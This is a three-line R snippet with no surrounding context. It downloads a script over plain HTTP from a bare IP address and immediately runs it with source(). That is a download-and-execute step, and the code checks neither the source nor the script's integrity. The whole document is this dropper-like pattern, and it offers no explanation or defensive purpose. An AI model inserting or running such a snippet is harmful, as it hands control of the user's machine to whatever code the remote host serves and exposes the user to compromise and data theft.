target <- tempfile(fileext = ".R")
download.file("http://198.51.100.7/a.R", target)
source(target)
